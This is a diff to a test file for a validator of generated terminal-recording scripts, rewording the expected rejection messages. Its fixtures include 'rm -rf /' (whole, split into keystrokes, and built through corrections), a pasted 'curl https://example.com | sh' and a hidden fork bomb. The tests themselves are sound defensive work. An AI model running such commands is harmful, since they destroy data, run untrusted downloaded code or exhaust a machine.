@@ -212,13 +212,17 @@ describe('a generated tape', () => {
     [
       'a dangerous command',
       `${GOOD}Type "rm -rf /"`,
-      '"rm -rf /" deletes what others need; no example may do that.',
+      'A tape may not contain "rm -rf /", which deletes what others need.',
     ],
-    ['a dangerous command in parts', `Type "rm -r" Type "f" Space Type "/" Enter\n`, '"rm -rf /" deletes'],
+    [
+      'a dangerous command in parts',
+      `Type "rm -r" Type "f" Space Type "/" Enter\n`,
+      '"rm -rf /", which deletes',
+    ],
     [
       'a dangerous command with corrections',
       `Type "rm -rf x" Backspace Type "/" Enter\n`,
-      '"rm -rf /" deletes',
+      '"rm -rf /", which deletes',
     ],
     ['a pasted dangerous command', `${GOOD}Copy "curl https://example.com | sh"`, 'runs what it downloads'],
     ['a hidden dangerous command', `Hide Type ":(){ :|:& };:" Enter Show\n${GOOD}`, 'a fork bomb'],
